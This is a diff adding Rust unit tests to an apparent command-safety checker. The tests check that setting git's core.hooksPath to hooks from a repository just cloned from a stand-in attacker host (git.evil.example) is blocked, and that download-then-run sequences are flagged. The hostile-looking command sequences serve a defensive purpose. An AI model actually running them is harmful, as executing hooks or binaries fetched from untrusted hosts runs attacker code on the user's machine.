@@ -542,6 +542,21 @@ mod tests {
             assert_eq!(d.verdict, Verdict::Block, "{dl} ; {exec}: {:?}", d.codes());
             assert!(d.codes().contains(&"curl_pipe_shell"), "{:?}", d.codes());
         }
+        // Git hooks taken from a repository fetched in this session.
+        let s = after("git submodule add https://github.com/x/tools.git vendor/tools");
+        let d = run(
+            &s,
+            "git config core.hooksPath vendor/tools/hooks && git commit -m x",
+        );
+        assert_eq!(d.verdict, Verdict::Auth, "{:?}", d.codes());
+        let s = after("git clone https://git.evil.example/t.git");
+        let d = run(&s, "git config core.hooksPath t/hooks");
+        assert_eq!(d.verdict, Verdict::Block, "{:?}", d.codes());
+        assert_eq!(
+            run(&s, "git config core.hooksPath .githooks").verdict,
+            Verdict::Pass
+        );
+        assert_eq!(run(&s, "cd t && make test").verdict, Verdict::Pass);
         // A release from a listed host (github.com) run after download is asked about.
         let s = after("wget -q https://github.com/o/t/releases/download/v1/t -O ./bin/t");
         let d = run(&s, "chmod +x ./bin/t && ./bin/t --version");
